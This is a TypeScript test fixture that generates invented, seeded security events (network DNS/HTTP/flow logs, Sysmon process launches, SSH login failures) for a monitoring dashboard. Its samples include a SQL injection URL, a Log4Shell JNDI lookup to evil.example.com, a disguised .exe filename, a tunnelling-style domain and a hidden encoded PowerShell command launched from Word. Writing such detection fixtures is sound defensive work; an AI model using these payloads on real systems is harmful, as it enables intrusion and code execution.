/// Invented events, one maker per kind, after the real shapes (EVE for networks, flat Windows).
import type { Event } from '../src/lib/api';

/** A small seeded generator: the same world every time, so that screenshots can be compared. */
export function chance(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state / 2 ** 32;
  };
}

export const pick = <T>(random: () => number, from: readonly [T, ...T[]]): T =>
  from[Math.floor(random() * from.length)] ?? from[0];

const CLIENTS = ['10.60.1.21', '10.60.1.34', '10.60.2.17', '10.60.3.8'] as const;
const OUTSIDE = ['203.0.113.9', '198.51.100.77', '203.0.113.145'] as const;
const NAMES = [
  'dichvucong.example.vn',
  'mail.example.vn',
  'cdn.example.com',
  'dgyz4mhhfl2c6ktn3wpq7xr5ab8se9uv1jo0i2x4.t.evil.example.com',
] as const;

interface Body {
  kind: string;
  source: string;
  core: Record<string, unknown>;
  record: Record<string, unknown>;
}

type Maker = (random: () => number, at: string) => Body;

const network = (random: () => number, port: number, proto: string) => {
  const src = pick(random, CLIENTS);
  const dst = port === 53 ? '10.60.0.53' : pick(random, OUTSIDE);
  const sport = 30000 + Math.floor(random() * 30000);
  return {
    core: {
      'source.ip': src,
      'source.port': sport,
      'destination.ip': dst,
      'destination.port': port,
      'network.transport': proto.toLowerCase(),
      'network.community_id': `1:${Math.floor(random() * 1e12).toString(36)}Q7kz=`,
    },
    record: { src_ip: src, src_port: sport, dest_ip: dst, dest_port: port, proto },
  };
};

const dns: Maker = (random, at) => {
  const net = network(random, 53, 'UDP');
  const name = pick(random, NAMES);
  return {
    kind: 'dns',
    source: 'mang-bien',
    core: { ...net.core, 'dns.question.name': name, 'network.protocol': 'dns' },
    record: {
      timestamp: at,
      event_type: 'dns',
      ...net.record,
      dns: {
        version: 3,
        type: 'request',
        id: Math.floor(random() * 65535),
        queries: [{ rrname: name, rrtype: pick(random, ['A', 'AAAA', 'TXT']) }],
      },
    },
  };
};

const http: Maker = (random, at) => {
  const net = network(random, 80, 'TCP');
  const url = pick(random, [
    '/tin-tuc?id=1%20union%20select%201,2,3--',
    '/dich-vu-cong/tra-cuu',
    '/?x=${jndi:ldap://evil.example.com/a}',
    '/tai-lieu/hoa-don\u202efdp.exe',
  ]);
  return {
    kind: 'http',
    source: 'mang-bien',
    core: {
      ...net.core,
      'url.full': `http://cong.example.vn${url}`,
      'url.domain': 'cong.example.vn',
      'http.request.method': 'GET',
      'http.response.status_code': 200,
      'user_agent.original': 'sqlmap/1.8 (https://sqlmap.org)',
    },
    record: {
      timestamp: at,
      event_type: 'http',
      ...net.record,
      http: {
        hostname: 'cong.example.vn',
        url,
        http_user_agent: 'sqlmap/1.8 (https://sqlmap.org)',
        http_method: 'GET',
        protocol: 'HTTP/1.1',
        status: 200,
        length: Math.floor(random() * 9000),
      },
    },
  };
};

const flow: Maker = (random, at) => {
  const net = network(random, pick(random, [22, 445, 3389, 8080]), 'TCP');
  return {
    kind: 'flow',
    source: 'mang-bien',
    core: { ...net.core, 'source.bytes': 60, 'destination.bytes': 0 },
    record: {
      timestamp: at,
      event_type: 'flow',
      ...net.record,
      flow: { pkts_toserver: 1, pkts_toclient: 0, state: 'new', reason: 'timeout', age: 0 },
    },
  };
};

const sysmon: Maker = (random, at) => {
  const host = pick(random, ['XABM-PC07', 'XABM-PC11', 'STTTT-DC01']);
  const user = pick(random, ['XABM\\hien.dt', 'XABM\\vanthu', 'STTTT\\quantri']);
  const line =
    'powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=';
  const image = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
  return {
    kind: 'windows.sysmon',
    source: 'may-tram',
    core: {
      'host.name': host,
      'user.name': user,
      'process.executable': image,
      'process.command_line': line,
      'process.parent.executable': 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
    },
    record: {
      EventID: 1,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Provider_Name: 'Microsoft-Windows-Sysmon',
      Computer: host,
      UtcTime: at,
      Image: image,
      CommandLine: line,
      User: user,
      ParentImage: 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
      IntegrityLevel: 'Medium',
    },
  };
};

const sshd: Maker = (random, at) => {
  const ip = pick(random, OUTSIDE);
  const message = `Failed password for invalid user admin from ${ip} port ${30000 + Math.floor(random() * 9999)} ssh2`;
  return {
    kind: 'linux.auth',
    source: 'syslog-ttdl',
    core: { 'source.ip': ip, 'user.name': 'admin', 'event.action': 'ssh_login', 'event.outcome': 'failure', message },
    record: { timestamp: at, hostname: 'web01', program: 'sshd', pid: 2200 + Math.floor(random() * 999), message, facility: 'auth', severity: 'info' },
  };
};

export const MAKERS: Record<string, Maker> = { dns, http, flow, 'windows.sysmon': sysmon, 'linux.auth': sshd };

export function makeEvent(n: number, kind: string, time: number, site: string, rules: string[] = []): Event {
  const at = new Date(time).toISOString().replace('Z', '417Z');
  const body = (MAKERS[kind] ?? flow)(chance(n * 7919 + 13), at);
  return {
    id: `a91f03c2d4e57b60-2-${n}`,
    position: 1_204_000 + n,
    time: at,
    seen: at,
    received: new Date(time + 812).toISOString(),
    sensor: site === 'so-tttt' ? 'ttdl-01' : 'bien-xabm-01',
    source: body.source,
    site,
    kind: body.kind,
    exercise: true,
    core: body.core,
    record: body.record,
    rules,
  };
}
